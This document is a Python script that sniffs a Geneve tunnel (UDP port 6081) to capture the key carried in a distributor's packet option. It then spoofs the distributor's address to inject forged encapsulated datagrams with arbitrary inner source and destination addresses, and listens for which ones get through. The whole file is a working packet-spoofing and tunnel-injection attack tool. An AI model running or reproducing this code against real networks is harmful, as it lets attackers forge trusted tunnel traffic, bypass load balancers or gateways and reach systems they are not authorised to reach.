"""Forges packets of a distributor's tunnel, Geneve to UDP port 6081, and hears what comes of them.

    forge_tunnel.py learn INTERFACE SENDER
    forge_tunnel.py send SENDER TARGET KEY FROM TO PORT WORD COUNT
    forge_tunnel.py hear PORT ADDRESS...

The first sits on the way of packets, waits for one from SENDER, the distributor, and says its key. The second writes SENDER as its own
address, and puts a datagram with WORD, from FROM to TO, into each packet. The third says each word that it hears at an address.
"""

import selectors
import socket
import struct
import sys

TUNNEL_PORT = 6081
UDP = 17
# Behind UDP: version 0 with three words of options of which one is critical, and what is within; network 0; the option.
GENEVE = {4: "0340080000000000ff538102", 6: "034086dd00000000ff538102"}


def family_of(address):
    return 6 if ":" in address else 4


def octets(address):
    return socket.inet_pton(socket.AF_INET6 if family_of(address) == 6 else socket.AF_INET, address)


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp(source, target, source_port, port, payload):
    length = 8 + len(payload)
    plain = struct.pack("!HHHH", source_port, port, length, 0) + payload
    pseudo = octets(source) + octets(target) + struct.pack("!II", length, UDP)
    total = checksum(pseudo + plain) or 0xFFFF
    return struct.pack("!HHHH", source_port, port, length, total) + payload


def ip(source, target, payload):
    if family_of(source) == 6:
        return struct.pack("!IHBB", 6 << 28, len(payload), UDP, 64) + octets(source) + octets(target) + payload
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, UDP, 0) + octets(source) + octets(target)
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def learn(interface, sender):
    frames = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    frames.bind((interface, 0))
    print("watching", flush=True)
    family, wanted = family_of(sender), octets(sender)
    at, length = ((8, 40) if family == 6 else (12, 20))
    while True:
        packet = frames.recv(65_536)
        is_its = packet[:1] and packet[0] >> 4 == family and packet[at : at + len(wanted)] == wanted
        behind = packet[length:]
        if is_its and behind[2:4] == struct.pack("!H", TUNNEL_PORT):
            print("key", behind[8 + 12 : 8 + 20].hex(), flush=True)
            return


def send(sender, target, key, source, to, port, word, count):
    geneve = bytes.fromhex(GENEVE[family_of(source)]) + bytes.fromhex(key)
    is_ipv6 = family_of(sender) == 6
    raw = socket.socket(socket.AF_INET6 if is_ipv6 else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(int(count)):
        within = ip(source, to, udp(source, to, 40_000 + number, int(port), word.encode()))
        packet = ip(sender, target, udp(sender, target, 50_000 + number, TUNNEL_PORT, geneve + within))
        raw.sendto(packet, (target, 0))


def hear(port, *addresses):
    selector = selectors.DefaultSelector()
    for address in addresses:
        hearing = socket.socket(socket.AF_INET6 if family_of(address) == 6 else socket.AF_INET, socket.SOCK_DGRAM)
        hearing.bind((address, int(port)))
        selector.register(hearing, selectors.EVENT_READ)
    print("hearing", flush=True)
    while True:
        for key, _ in selector.select():
            print(key.fileobj.recv(65_536).decode(errors="replace"), flush=True)


{"learn": learn, "send": send, "hear": hear}[sys.argv[1]](*sys.argv[2:])
